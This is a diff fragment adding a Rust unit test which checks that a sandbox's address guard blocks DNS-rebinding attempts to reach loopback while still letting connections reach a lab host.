+/// with a TTL of 0) gets one fake address; each connection to it is resolved again and the
+/// address guard refuses the loopback answers, so nothing reaches H's own listeners, while the
+/// other answers reach the lab (the control that the connections were made at all).
+#[test]
+fn rebinding_behind_a_fake_address_never_reaches_loopback() {
+    each_identity("rebindt", |lab, env, m| {
+        let args = ["--allow-host", "*.rebind.test", "--resolver", "192.0.2.53"];
+        let code = format!("{PY_DIRECT}\n{PY_REBIND}");
+        let run = Run::sandboxed(lab, env, &args, &code, m);
+        assert_code(&run.out, 0);
+        run.expect("fake", &["198.18."]);
+        let got: Vec<String> = (0..6).map(|i| run.get(&format!("rebind-{i}")).to_string()).collect();
+        run.check(
+            got.iter().any(|g| g.contains("hello from 192.0.2.10")),
+            &format!("no answer reached the lab: {got:?}"),
+        );
+        run.check(got.iter().all(|g| !g.contains("hello from 127.")), &format!("loopback answered: {got:?}"));
+        let seen = lab.requests_with(&format!("{m}-rebind"));
+        run.check(seen.iter().all(|r| r.side == Side::Internet), &format!("H's listeners saw {seen:?}"));
+        run.denied(&format!("r{m}.rebind.test"), "address-guard");
     });
 }
